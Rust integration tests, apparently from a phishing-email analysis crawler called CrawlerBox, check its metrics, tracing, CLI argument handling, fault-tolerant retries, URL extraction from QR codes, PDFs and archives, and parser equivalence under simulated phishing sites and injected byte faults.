    let records = cbx.scan_all(&corpus.messages);
    let stats = cbx.stats();
    assert_eq!(stats.messages, records.len() as u64);
    let export = cbx.export_metrics(ExportMode::Full);
    for (name, value) in [
        ("scan.messages", stats.messages),
        ("scheduler.steals", stats.steals),
        ("cache.enrich.hits", stats.enrich_hits),
        ("cache.enrich.misses", stats.enrich_misses),
        ("cache.artifact.hits", stats.artifact_hits),
        ("cache.artifact.misses", stats.artifact_misses),
        ("cache.screenshot.hits", stats.screenshot_hits),
        ("cache.screenshot.misses", stats.screenshot_misses),
    ] {
        assert!(
            export.contains(&format!("\"{name}\": {value}")),
            "metrics export disagrees with ScanStats for {name} = {value}"
        );
    }
}

/// Streaming delivery leaves a stage-1 `sink.deliver` event per message,
/// in message order, with the in-order delivery index attached.
#[test]
fn streaming_trace_records_in_order_delivery() {
    let spec = CorpusSpec::paper().with_scale(GOLDEN_SCALE);
    let (corpus, stream) = Corpus::stream(&spec, 2024);
    let cbx = CrawlerBox::new(&corpus.world)
        .with_scheduler(Scheduler::WorkStealing)
        .with_tracing(true);
    let mut sink = crawlerbox::CountingSink::default();
    let delivered = cbx.scan_stream(stream, &mut sink);
    assert!(delivered > 0);

    let trace = cbx.take_trace();
    let deliveries: Vec<_> = trace.messages.iter().filter(|m| m.stage == 1).collect();
    assert_eq!(deliveries.len(), delivered, "one sink.deliver per record");
    for (i, d) in deliveries.iter().enumerate() {
        assert_eq!(d.message_id, i, "delivery events must be message-ordered");
        match &d.events[..] {
            [TraceEvent::Instant { name, fields, .. }] => {
                assert_eq!(*name, "sink.deliver");
                assert_eq!(
                    fields,
                    &vec![("order", i.to_string())],
                    "delivery order index must match message order"
                );
            }
            other => panic!("expected one sink.deliver instant, got {other:?}"),
        }
    }
}

// ---- repro CLI ---------------------------------------------------------

fn repro() -> Command {
    Command::new(env!("CARGO_BIN_EXE_repro"))
}

fn run(cmd: &mut Command) -> (i32, String, String) {
    let out = cmd.output().expect("spawn repro");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn repro_rejects_unknown_flags_with_usage() {
    let (code, _, stderr) = run(repro().arg("--frobnicate"));
    assert_eq!(code, 2);
    assert!(stderr.contains("unknown flag --frobnicate"), "stderr: {stderr}");
    assert!(stderr.contains("usage: repro"), "stderr: {stderr}");
}

#[test]
fn repro_rejects_unknown_experiments_at_parse_time() {
    let (code, stdout, stderr) = run(repro().arg("tabel1"));
    assert_eq!(code, 2, "typoed experiment must not exit 0 (stdout: {stdout})");
    assert!(stderr.contains("unknown experiment tabel1"), "stderr: {stderr}");
    assert!(stderr.contains("usage: repro"), "stderr: {stderr}");
}

#[test]
fn repro_rejects_duplicate_experiments() {
    let (code, _, stderr) = run(repro().args(["table1", "table2"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("duplicate experiment"), "stderr: {stderr}");
}

#[test]
fn repro_rejects_flags_missing_their_value() {
    for flag in ["--trace", "--trace-chrome", "--metrics", "--log"] {
        let (code, _, stderr) = run(repro().arg(flag));
        assert_eq!(code, 2, "{flag} without a path must be a usage error");
        assert!(stderr.contains(flag), "stderr: {stderr}");
    }
}

#[test]
fn repro_rejects_telemetry_flags_on_the_fault_sweep() {
    let (code, _, stderr) = run(repro().args(["faults", "--trace", "/tmp/never-written.jsonl"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("fault sweep"), "stderr: {stderr}");
}

/// End-to-end smoke of the exporter wiring: `repro --trace --trace-chrome
/// --metrics` writes all three files in their documented formats, and
/// `crawl-log trace` pretty-prints the JSONL.
#[test]
fn repro_writes_trace_and_metrics_files() {
    let dir = std::env::temp_dir().join(format!("cb-telemetry-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("create temp dir");
    let trace = dir.join("trace.jsonl");
    let chrome = dir.join("trace.chrome.json");
    let metrics = dir.join("metrics.json");

    let (code, _, stderr) = run(repro().args([
        "classmix",
        "--scale",
        "0.02",
        "--seed",
        "7",
        "--trace",
        trace.to_str().unwrap(),
        "--trace-chrome",
        chrome.to_str().unwrap(),
        "--metrics",
        metrics.to_str().unwrap(),
    ]));
    assert_eq!(code, 0, "stderr: {stderr}");
    assert!(stderr.contains("trace JSONL written"), "stderr: {stderr}");

    let trace_text = std::fs::read_to_string(&trace).expect("trace written");
    assert!(trace_text.starts_with("{\"msg\":"), "unexpected JSONL head");
    assert!(trace_text.contains(r#""name":"scan""#));
    let chrome_text = std::fs::read_to_string(&chrome).expect("chrome trace written");
    assert!(chrome_text.starts_with("{\"displayTimeUnit\":\"ms\",\"traceEvents\":["));
    let metrics_text = std::fs::read_to_string(&metrics).expect("metrics written");
    assert!(metrics_text.contains("\"scan.messages\""));

    let out = Command::new(env!("CARGO_BIN_EXE_crawl-log"))
        .args(["trace", trace.to_str().unwrap(), "--limit", "2"])
        .output()
        .expect("spawn crawl-log");
    assert!(out.status.success());
    let pretty = String::from_utf8_lossy(&out.stdout);
    assert!(pretty.contains("message 0"), "pretty output: {pretty}");
    assert!(pretty.contains("> scan"), "pretty output: {pretty}");

    let _ = std::fs::remove_dir_all(&dir);
}
