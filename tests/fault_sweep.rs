//! The tentpole robustness claim, end to end: under a 20% transient-fault
//! rate the supervised pipeline reproduces the fault-free §V class mix and
//! Table I exactly, a retry-less pipeline demonstrably degrades, and the
//! supervised scan stays deterministic across parallel and serial runs.
//!
//! Every arm generates a *fresh* corpus from the same seed: scanning
//! mutates world state (IP allocation, serve counters), so the same seed
//! must be replayed, never the same `Corpus` value rescanned.

use cb_phishgen::{Corpus, CorpusSpec};
use crawlerbox::analysis::fault_sweep;
use crawlerbox::{CrawlerBox, ScanPolicy, ScanRecord};

const SEED: u64 = 2024;
const RATE: f64 = 0.2;

fn scan_fresh(scale: f64, rate: f64, policy: ScanPolicy) -> Vec<ScanRecord> {
    let mut spec = CorpusSpec::paper().with_scale(scale);
    if rate > 0.0 {
        spec = spec.with_fault_rate(rate);
    }
    let corpus = Corpus::generate(&spec, SEED);
    CrawlerBox::new(&corpus.world)
        .with_policy(policy)
        .scan_all(&corpus.messages)
}

#[test]
fn supervised_scan_reproduces_baseline_classes_under_faults() {
    let baseline = scan_fresh(0.05, 0.0, ScanPolicy::default());
    let supervised = scan_fresh(0.05, RATE, ScanPolicy::default());
    assert_eq!(baseline.len(), supervised.len());

    for (b, s) in baseline.iter().zip(&supervised) {
        assert_eq!(
            b.class, s.class,
            "message {} diverged under supervision: {:?}",
            b.message_id,
            s.visits.iter().map(|v| &v.attempts).collect::<Vec<_>>()
        );
    }

    // The agreement must be earned: the supervisor actually retried.
    let retried_visits: usize = supervised
        .iter()
        .flat_map(|r| r.visits.iter())
        .filter(|v| v.attempts.len() > 1)
        .count();
    assert!(
        retried_visits > 0,
        "a 20% fault rate must force at least one retry"
    );
    // ... and every retried visit recovered (bounded consecutive faults
    // guarantee a clean attempt within the retry budget).
    for v in supervised.iter().flat_map(|r| r.visits.iter()) {
        assert!(v.error.is_none(), "supervised visit still failed: {v:?}");
    }
}

#[test]
fn retryless_pipeline_degrades_where_supervision_recovers() {
    let baseline = scan_fresh(0.05, 0.0, ScanPolicy::default());
    let retryless = scan_fresh(0.05, RATE, ScanPolicy::default().with_max_retries(0));
    assert_eq!(baseline.len(), retryless.len());

    let diverged = baseline
        .iter()
        .zip(&retryless)
        .filter(|(b, r)| b.class != r.class)
        .count();
    assert!(
        diverged > 0,
        "retry-less scanning at a 20% fault rate must misclassify some messages"
    );
    // Retry-less visits that hit a fault carry structured error provenance.
    let failed = retryless
        .iter()
        .flat_map(|r| r.visits.iter())
        .filter(|v| v.error.is_some())
        .count();
    assert!(failed > 0, "degraded visits must record an error");
}

#[test]
fn fault_sweep_report_proves_the_invariance_claim() {
    let spec = CorpusSpec::paper().with_scale(0.04);
    let report = fault_sweep(&spec, SEED, RATE);

    assert!(report.table1_invariant, "Table I must be fault-invariant");
    assert!(
        report.supervised_matches_baseline,
        "supervised arm must reproduce the baseline class mix: {report}"
    );
    assert!(
        report.retryless.class_agreement < 1.0,
        "retry-less arm must degrade class agreement: {report}"
    );
    assert!(
        report.supervised.visits_with_faults > 0,
        "the supervised arm must actually have observed faults"
    );
    assert!(report.supervised.total_attempts > report.baseline.total_attempts);
    assert_eq!(report.supervised.failed_visits, 0);
}

#[test]
fn parallel_and_serial_scans_agree_under_faults() {
    let spec = CorpusSpec::paper().with_scale(0.03).with_fault_rate(RATE);

    let parallel = {
        let corpus = Corpus::generate(&spec, SEED);
        let mut cbx = CrawlerBox::new(&corpus.world);
        cbx.parallelism = 8;
        cbx.scan_all(&corpus.messages)
    };
    let serial = {
        let corpus = Corpus::generate(&spec, SEED);
        let cbx = CrawlerBox::new(&corpus.world);
        corpus
            .messages
            .iter()
            .map(|m| cbx.scan(m))
            .collect::<Vec<_>>()
    };

    assert_eq!(parallel.len(), serial.len());
    // Exfil bodies embed allocation-order-dependent IPs, so compare the
    // deterministic surface: class, error, and per-visit crawl shape.
    for (p, s) in parallel.iter().zip(&serial) {
        assert_eq!(p.class, s.class, "message {}", p.message_id);
        assert_eq!(p.error, s.error);
        assert_eq!(p.visits.len(), s.visits.len());
        for (pv, sv) in p.visits.iter().zip(&s.visits) {
            assert_eq!(pv.requested_url, sv.requested_url);
            assert_eq!(pv.chain, sv.chain);
            assert_eq!(pv.outcome, sv.outcome);
            assert_eq!(pv.status, sv.status);
            assert_eq!(pv.login_form, sv.login_form);
            assert_eq!(pv.attempts, sv.attempts);
            assert_eq!(pv.error, sv.error);
        }
    }
}
