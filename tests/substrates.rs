//! Cross-crate substrate integration: the seams between email, QR, images,
//! PDFs, archives, the browser and the detection services.

use cb_artifacts::{qrimage, Bitmap, PdfDocument, Rgb, ZipArchive};
use cb_botdetect::{Detector, Turnstile};
use cb_browser::{Browser, CrawlerProfile};
use cb_email::{MessageBuilder, MimeEntity};
use cb_netsim::{HttpRequest, HttpResponse, Internet, NetContext};
use cb_phishkit::{Brand, CloakConfig, PhishingSite};
use cb_qr::{encode_bytes, EcLevel};
use cb_sim::SimTime;
use crawlerbox::extract::{extract_resources, ExtractionSource};

#[test]
fn qr_survives_full_email_round_trip() {
    // encode → render → attach → MIME wire → parse → detect → decode → URL
    let url = "https://round-trip.example/fulltok1";
    let symbol = encode_bytes(url.as_bytes(), EcLevel::Q).unwrap();
    let image = qrimage::render(symbol.matrix(), 3);
    let raw = MessageBuilder::new()
        .subject("scan me")
        .text_body("see attachment")
        .attach("code.png", "image/png", &image.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(found
        .iter()
        .any(|r| r.url == url && r.source == ExtractionSource::QrCode { faulty: false }));
}

#[test]
fn qr_inside_pdf_page_screenshot_is_not_supported_but_pdf_text_is() {
    // The PDF path extracts annotation links and OCRs page screenshots.
    let mut doc = PdfDocument::new();
    let mut page = cb_artifacts::pdf::PdfPage::new();
    page.text(6, 6, "VISIT HTTPS://PDFPAGE.EXAMPLE/OCR1 NOW");
    doc.page(page);
    let raw = MessageBuilder::new()
        .subject("invoice")
        .attach("inv.pdf", "application/pdf", &doc.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(
        found
            .iter()
            .any(|r| r.url.contains("pdfpage.example/ocr1")
                && r.source == ExtractionSource::PdfText),
        "{found:?}"
    );
}

#[test]
fn zip_of_eml_of_image_recurses() {
    // A ZIP containing an EML containing a QR image: three container hops.
    let url = "https://deep-nest.example/depthtk1";
    let symbol = encode_bytes(url.as_bytes(), EcLevel::M).unwrap();
    let image = qrimage::render(symbol.matrix(), 2);
    let inner_eml = MessageBuilder::new()
        .subject("inner")
        .attach("qr.png", "image/png", &image.to_bytes())
        .build();
    let mut zip = ZipArchive::new();
    zip.add("mail.eml", inner_eml.as_bytes());
    let raw = MessageBuilder::new()
        .subject("outer")
        .attach("bundle.zip", "application/zip", &zip.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(
        found.iter().any(|r| r.url == url),
        "nested URL recovered: {found:?}"
    );
}

#[test]
fn octet_stream_mislabeled_pdf_is_sniffed() {
    let mut doc = PdfDocument::new();
    let mut page = cb_artifacts::pdf::PdfPage::new();
    page.link("https://sniffed.example/pdf");
    doc.page(page);
    let raw = MessageBuilder::new()
        .subject("file")
        .attach("data.bin", "application/octet-stream", &doc.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(found.iter().any(|r| r.url == "https://sniffed.example/pdf"));
}

#[test]
fn browser_attestation_matches_detector_view() {
    // What a kit's Turnstile sees through the attestation header equals
    // what the pure detector computes from the profile.
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("probe.example", "REG");
    net.host("probe.example", |req: &HttpRequest, _: &NetContext<'_>| {
        let report = cb_browser::ChallengeReport::from_request(req).unwrap();
        let verdict = Turnstile::default().evaluate(&report);
        HttpResponse::html(&format!("<p>human={}</p>", verdict.is_human()))
    });
    for profile in CrawlerProfile::table1() {
        let visit = Browser::new(profile).visit(&net, "https://probe.example/");
        let via_http = visit
            .document
            .unwrap()
            .visible_text()
            .contains("human=true");
        let direct = Turnstile::default()
            .evaluate(&profile.fingerprint().attestation())
            .is_human();
        assert_eq!(via_http, direct, "{profile}");
    }
}

#[test]
fn hue_rotated_phish_page_screenshot_still_classifies() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("rotated.example", "REG");
    net.register_domain(Brand::FareLogic.legit_domain(), "CORP");
    net.host(
        Brand::FareLogic.legit_domain(),
        cb_phishkit::brand::LegitSite::new(Brand::FareLogic),
    );
    let mut cloak = CloakConfig::none();
    cloak.client.hue_rotate = true;
    cloak.client.hotlink_brand_resources = true;
    net.host(
        "rotated.example",
        PhishingSite::new(Brand::FareLogic, "https://rotated.example", cloak),
    );
    let visit = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://rotated.example/");
    assert!(visit.shows_login_form());
    let classifier = crawlerbox::SpearClassifier::new();
    let m = classifier
        .classify(visit.screenshot.as_ref().unwrap())
        .expect("hue rotation must not defeat the classifier");
    assert_eq!(m.brand, Brand::FareLogic);
    // and the hotlinked logo request hit the real org's infrastructure
    assert!(visit
        .subresources
        .iter()
        .any(|(u, status)| u.host == Brand::FareLogic.legit_domain() && *status == 200));
}

#[test]
fn image_noise_does_not_create_phantom_urls() {
    let img = Bitmap::new(300, 120, Rgb::WHITE).add_noise(12345, 500);
    let raw = MessageBuilder::new()
        .subject("pic")
        .attach("noise.png", "image/png", &img.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(found.is_empty(), "phantom URLs: {found:?}");
}
