//! Cross-crate substrate integration: the seams between email, QR, images,
//! PDFs, archives, the browser and the detection services.

use cb_artifacts::{qrimage, Bitmap, PdfDocument, Rgb, ZipArchive};
use cb_botdetect::{Detector, Turnstile};
use cb_browser::{Browser, CrawlerProfile};
use cb_email::{MessageBuilder, MimeEntity};
use cb_netsim::{HttpRequest, HttpResponse, Internet, NetContext};
use cb_phishkit::{Brand, CloakConfig, PhishingSite};
use cb_qr::{encode_bytes, EcLevel};
use cb_sim::SimTime;
use crawlerbox::extract::{extract_resources, ExtractionSource};

#[test]
fn qr_survives_full_email_round_trip() {
    // encode → render → attach → MIME wire → parse → detect → decode → URL
    let url = "https://round-trip.example/fulltok1";
    let symbol = encode_bytes(url.as_bytes(), EcLevel::Q).unwrap();
    let image = qrimage::render(symbol.matrix(), 3);
    let raw = MessageBuilder::new()
        .subject("scan me")
        .text_body("see attachment")
        .attach("code.png", "image/png", &image.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(found
        .iter()
        .any(|r| r.url == url && r.source == ExtractionSource::QrCode { faulty: false }));
}

#[test]
fn qr_inside_pdf_page_screenshot_is_not_supported_but_pdf_text_is() {
    // The PDF path extracts annotation links and OCRs page screenshots.
    let mut doc = PdfDocument::new();
    let mut page = cb_artifacts::pdf::PdfPage::new();
    page.text(6, 6, "VISIT HTTPS://PDFPAGE.EXAMPLE/OCR1 NOW");
    doc.page(page);
    let raw = MessageBuilder::new()
        .subject("invoice")
        .attach("inv.pdf", "application/pdf", &doc.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(
        found
            .iter()
            .any(|r| r.url.contains("pdfpage.example/ocr1")
                && r.source == ExtractionSource::PdfText),
        "{found:?}"
    );
}

#[test]
fn zip_of_eml_of_image_recurses() {
    // A ZIP containing an EML containing a QR image: three container hops.
    let url = "https://deep-nest.example/depthtk1";
    let symbol = encode_bytes(url.as_bytes(), EcLevel::M).unwrap();
    let image = qrimage::render(symbol.matrix(), 2);
    let inner_eml = MessageBuilder::new()
        .subject("inner")
        .attach("qr.png", "image/png", &image.to_bytes())
        .build();
    let mut zip = ZipArchive::new();
    zip.add("mail.eml", inner_eml.as_bytes());
    let raw = MessageBuilder::new()
        .subject("outer")
        .attach("bundle.zip", "application/zip", &zip.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(
        found.iter().any(|r| r.url == url),
        "nested URL recovered: {found:?}"
    );
}

#[test]
fn octet_stream_mislabeled_pdf_is_sniffed() {
    let mut doc = PdfDocument::new();
    let mut page = cb_artifacts::pdf::PdfPage::new();
    page.link("https://sniffed.example/pdf");
    doc.page(page);
    let raw = MessageBuilder::new()
        .subject("file")
        .attach("data.bin", "application/octet-stream", &doc.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(found.iter().any(|r| r.url == "https://sniffed.example/pdf"));
}

#[test]
fn browser_attestation_matches_detector_view() {
    // What a kit's Turnstile sees through the attestation header equals
    // what the pure detector computes from the profile.
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("probe.example", "REG");
    net.host("probe.example", |req: &HttpRequest, _: &NetContext<'_>| {
        let report = cb_browser::ChallengeReport::from_request(req).unwrap();
        let verdict = Turnstile::default().evaluate(&report);
        HttpResponse::html(&format!("<p>human={}</p>", verdict.is_human()))
    });
    for profile in CrawlerProfile::table1() {
        let visit = Browser::new(profile).visit(&net, "https://probe.example/");
        let via_http = visit
            .document
            .unwrap()
            .visible_text()
            .contains("human=true");
        let direct = Turnstile::default()
            .evaluate(&profile.fingerprint().attestation())
            .is_human();
        assert_eq!(via_http, direct, "{profile}");
    }
}

#[test]
fn hue_rotated_phish_page_screenshot_still_classifies() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("rotated.example", "REG");
    net.register_domain(Brand::FareLogic.legit_domain(), "CORP");
    net.host(
        Brand::FareLogic.legit_domain(),
        cb_phishkit::brand::LegitSite::new(Brand::FareLogic),
    );
    let mut cloak = CloakConfig::none();
    cloak.client.hue_rotate = true;
    cloak.client.hotlink_brand_resources = true;
    net.host(
        "rotated.example",
        PhishingSite::new(Brand::FareLogic, "https://rotated.example", cloak),
    );
    let visit = Browser::new(CrawlerProfile::NotABot).visit(&net, "https://rotated.example/");
    assert!(visit.shows_login_form());
    let classifier = crawlerbox::SpearClassifier::new();
    let m = classifier
        .classify(visit.screenshot.as_ref().unwrap())
        .expect("hue rotation must not defeat the classifier");
    assert_eq!(m.brand, Brand::FareLogic);
    // and the hotlinked logo request hit the real org's infrastructure
    assert!(visit
        .subresources
        .iter()
        .any(|(u, status)| u.host == Brand::FareLogic.legit_domain() && *status == 200));
}

#[test]
fn image_noise_does_not_create_phantom_urls() {
    let img = Bitmap::new(300, 120, Rgb::WHITE).add_noise(12345, 500);
    let raw = MessageBuilder::new()
        .subject("pic")
        .attach("noise.png", "image/png", &img.to_bytes())
        .build();
    let parsed = MimeEntity::parse(&raw).unwrap();
    let found = extract_resources(&parsed);
    assert!(found.is_empty(), "phantom URLs: {found:?}");
}

// ---------------------------------------------------------------------------
// Zero-copy substrate equivalence: the borrowed-span MIME parser, the LUT
// HTML tokenizer, and the word-packed ink kernels must agree with the
// frozen pre-change implementations (kept in-tree as differential oracles)
// on *every* input — including inputs where a fraction of the bytes has
// been faulted, since corrupted messages are exactly where a hand-rolled
// byte scanner and the original char-by-char code could diverge.
// ---------------------------------------------------------------------------

use cb_email::reference as email_oracle;
use cb_web::html;
use proptest::prelude::*;

/// Structural MIME fragments: boundaries, folded headers, encodings, and
/// the separators whose misplacement stresses part splitting.
const MIME_ATOMS: &[&str] = &[
    "Content-Type: multipart/mixed; boundary=bb\r\n",
    "Content-Type: multipart/alternative; boundary=\"q q\"\r\n",
    "Content-Type: text/html; charset=utf-8\r\n",
    "Content-Type: text/plain\r\n",
    "Content-Transfer-Encoding: base64\r\n",
    "Content-Transfer-Encoding: quoted-printable\r\n",
    "Subject: spanning\r\n",
    "Subject: fold\r\n\tcontinues\r\n",
    "X-Loop: a\n",
    "\r\n",
    "\n",
    "--bb\r\n",
    "--bb--\r\n",
    "--bb\n",
    "--bb--",
    "--q q\r\n",
    "Zm9vYmFy\r\n",
    "caf=C3=A9=\r\n",
    "plain body text\r\n",
    "<p>inline html</p>\r\n",
    ": no name\r\n",
    " leading continuation\r\n",
];

/// HTML soup fragments for the tokenizer: tags, attribute quoting styles,
/// rawtext elements, comments, entities and truncation points.
const HTML_ATOMS: &[&str] = &[
    "<div>", "</div>", "<p ", "<a href=", "\"u\"", "'v'", "bare", ">", "/>", "=",
    "</p>", "<script>", "</script>", "<style>", "</style>", "<!--", "-->", "<!",
    "<br>", "text", " ", "&amp;", "&#65;", "<", "</", "<img src=x>", "\t",
    "<B CLASS=upper>", "</B>", "<sPaN a=1 a=2>", "</span >",
];

/// Overwrite roughly `rate` of the single-byte positions of `text` with
/// structure-bearing ASCII, deterministically from `seed`. Only ASCII
/// positions are rewritten so the result stays valid UTF-8.
fn inject_faults(text: &str, rate: f64, seed: u64) -> String {
    const FAULTS: &[u8] = b"-=\r\n<>\"';:& b";
    let mut state = seed | 1;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let mut bytes = text.as_bytes().to_vec();
    for b in bytes.iter_mut() {
        if b.is_ascii() && (next() % 10_000) as f64 / 10_000.0 < rate {
            *b = FAULTS[(next() as usize) % FAULTS.len()];
        }
    }
    String::from_utf8(bytes).expect("ASCII-only rewrites preserve UTF-8")
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn span_mime_parser_matches_oracle_under_faults(
        atoms in proptest::collection::vec(prop::sample::select(MIME_ATOMS), 0..12),
        rate in 0.0..0.30f64,
        seed in any::<u64>(),
    ) {
        let raw = inject_faults(&atoms.concat(), rate, seed);
        prop_assert_eq!(
            cb_email::MimeEntity::parse(&raw),
            email_oracle::parse_message(&raw),
            "raw {:?}", raw
        );
    }

    #[test]
    fn lut_tokenizer_matches_oracle_under_faults(
        atoms in proptest::collection::vec(prop::sample::select(HTML_ATOMS), 0..16),
        rate in 0.0..0.30f64,
        seed in any::<u64>(),
    ) {
        let input = inject_faults(&atoms.concat(), rate, seed);
        prop_assert_eq!(
            html::parse_fragment(&input),
            html::reference::parse_fragment(&input),
            "input {:?}", input
        );
    }

    #[test]
    fn word_packed_masks_match_bool_reference(
        w in 1usize..40,
        h in 1usize..24,
        threshold in any::<u8>(),
        seed in any::<u64>(),
        noise in 0usize..400,
    ) {
        let img = Bitmap::new(w, h, Rgb::WHITE).add_noise(seed, noise);
        let reference = img.with_ink_mask(threshold, |m| m.to_vec());
        img.with_ink_words(threshold, |ink| {
            prop_assert_eq!(ink.width(), w);
            prop_assert_eq!(ink.height(), h);
            for y in 0..h {
                for x in 0..w {
                    prop_assert_eq!(
                        ink.get(x, y), reference[y * w + x],
                        "pixel ({}, {}) under threshold {}", x, y, threshold
                    );
                }
            }
            prop_assert_eq!(ink.count_ink(), reference.iter().filter(|&&b| b).count());
            Ok(())
        })?;
    }

    #[test]
    fn word_packed_hamming_matches_bool_xor(
        w in 1usize..40,
        h in 1usize..24,
        threshold in any::<u8>(),
        seed_a in any::<u64>(),
        seed_b in any::<u64>(),
    ) {
        // Well-separated noise seeds: add_noise derives its stream from
        // `seed | 1`, so adjacent seeds would collide.
        let a = Bitmap::new(w, h, Rgb::WHITE).add_noise(seed_a.wrapping_mul(2), 300);
        let b = Bitmap::new(w, h, Rgb::WHITE).add_noise(seed_b.wrapping_mul(2) ^ 0x5bd1, 300);
        let bools_a = a.with_ink_mask(threshold, |m| m.to_vec());
        let bools_b = b.with_ink_mask(threshold, |m| m.to_vec());
        let expected = bools_a.iter().zip(&bools_b).filter(|(x, y)| x != y).count();
        let got = a.with_ink_words(threshold, |ma| {
            b.with_ink_words(threshold, |mb| ma.hamming(mb))
        });
        prop_assert_eq!(got, expected);
    }
}

// Named regressions promoted from the fuzz corpus: the MIME boundary edges
// where span arithmetic is easiest to get wrong.

#[test]
fn mime_equivalence_empty_boundary() {
    // boundary="" makes every line a candidate delimiter ("--" prefix).
    let raw = concat!(
        "Content-Type: multipart/mixed; boundary=\"\"\r\n",
        "\r\n",
        "--\r\n",
        "Content-Type: text/plain\r\n",
        "\r\n",
        "body\r\n",
        "----\r\n",
    );
    assert_eq!(cb_email::MimeEntity::parse(raw), email_oracle::parse_message(raw));
}

#[test]
fn mime_equivalence_crlf_vs_lf() {
    // The same multipart message in CRLF and bare-LF framing must parse
    // to the same shape decisions under both parsers.
    let crlf = concat!(
        "Content-Type: multipart/mixed; boundary=bb\r\n",
        "\r\n",
        "--bb\r\n",
        "Content-Type: text/plain\r\n",
        "\r\n",
        "one\r\n",
        "--bb--\r\n",
    );
    let lf = crlf.replace("\r\n", "\n");
    assert_eq!(cb_email::MimeEntity::parse(crlf), email_oracle::parse_message(crlf));
    assert_eq!(cb_email::MimeEntity::parse(&lf), email_oracle::parse_message(&lf));
}

#[test]
fn mime_equivalence_truncated_final_part() {
    // Closing delimiter missing entirely, and cut mid-way through it.
    let whole = concat!(
        "Content-Type: multipart/mixed; boundary=bb\r\n",
        "\r\n",
        "--bb\r\n",
        "Content-Type: text/plain\r\n",
        "\r\n",
        "tail that never closes\r\n",
        "--bb--\r\n",
    );
    for cut in ["--bb--\r\n", "--bb--", "--bb", "--b", "-", ""] {
        let raw = whole.strip_suffix("--bb--\r\n").unwrap().to_string() + cut;
        assert_eq!(
            cb_email::MimeEntity::parse(&raw),
            email_oracle::parse_message(&raw),
            "cut {cut:?}"
        );
    }
}
