//! End-to-end tests for the bounded-memory streaming pipeline: lazy corpus
//! synthesis feeding `scan_stream`, bit-identity with the batch path,
//! residency bounds asserted via the `ScanStats` gauges, and panic
//! degradation in streaming mode.

use cb_email::MessageBuilder;
use cb_netsim::{HttpRequest, HttpResponse, Internet, NetContext};
use cb_phishgen::messages::Carrier;
use cb_phishgen::{Corpus, CorpusSpec, GroundTruth, MessageClass, ReportedMessage};
use cb_sim::SimTime;
use crawlerbox::analysis::tables::ClassMix;
use crawlerbox::{ClassMixSink, CountingSink, CrawlerBox, ScanRecord, Scheduler, TruthLedger};

const SCHEDULERS: [Scheduler; 3] = [
    Scheduler::Serial,
    Scheduler::StaticChunk,
    Scheduler::WorkStealing,
];

fn message_from(id: usize, raw: String) -> ReportedMessage {
    ReportedMessage {
        id,
        raw,
        delivered_at: SimTime::from_ymd(2024, 3, 1),
        victim: "v@corp.example".to_string(),
        truth: GroundTruth {
            class: MessageClass::NoResource,
            campaign: None,
            carrier: Carrier::None,
            spear: false,
            noise_padded: false,
            url: None,
        },
    }
}

/// The tentpole acceptance check: a lazily generated corpus streamed
/// through the pipeline reproduces the batch run's class mix and
/// ground-truth agreement rate, while the residency gauges stay within
/// `stream_capacity + workers`.
#[test]
fn streamed_class_mix_and_agreement_match_batch() {
    let spec = CorpusSpec::paper().with_scale(0.02);
    let corpus = Corpus::generate(&spec, 2024);
    let batch = CrawlerBox::new(&corpus.world).scan_all(&corpus.messages);
    let batch_mix = ClassMix::of(&batch);
    let agreed = batch
        .iter()
        .filter(|r| r.class == corpus.messages[r.message_id].truth.class)
        .count();
    let batch_agreement = agreed as f64 / batch.len() as f64;
    let max_raw = corpus
        .messages
        .iter()
        .map(|m| m.raw.len() as u64)
        .max()
        .unwrap();

    let (stream_corpus, stream) = Corpus::stream(&spec, 2024);
    let ledger = TruthLedger::new();
    let tap = ledger.clone();
    let mut sink = ClassMixSink::with_truth(ledger);
    let cbx = CrawlerBox::new(&stream_corpus.world).with_stream_capacity(8);
    let delivered = cbx.scan_stream(stream.inspect(move |m| tap.note(m.truth.class)), &mut sink);

    assert_eq!(delivered, batch.len());
    assert_eq!(sink.total(), batch.len());
    assert_eq!(sink.mix(), batch_mix, "streamed class mix diverged");
    let streamed_agreement = sink.agreement_rate().expect("truth ledger was tapped");
    assert!(
        (streamed_agreement - batch_agreement).abs() < 1e-12,
        "agreement {streamed_agreement} != batch {batch_agreement}"
    );

    // The residency bound of the ISSUE: at most capacity + workers messages
    // (and their bytes) resident at any instant, and everything drains.
    let stats = cbx.stats();
    let bound = (cbx.stream_capacity() + cbx.parallelism) as u64;
    assert!(
        (1..=bound).contains(&stats.peak_in_flight),
        "peak in-flight {} outside (0, {bound}]",
        stats.peak_in_flight
    );
    assert!(stats.peak_reorder <= bound);
    assert!(
        stats.peak_bytes_retained >= 1 && stats.peak_bytes_retained <= bound * max_raw,
        "peak bytes {} outside (0, {}]",
        stats.peak_bytes_retained,
        bound * max_raw
    );
}

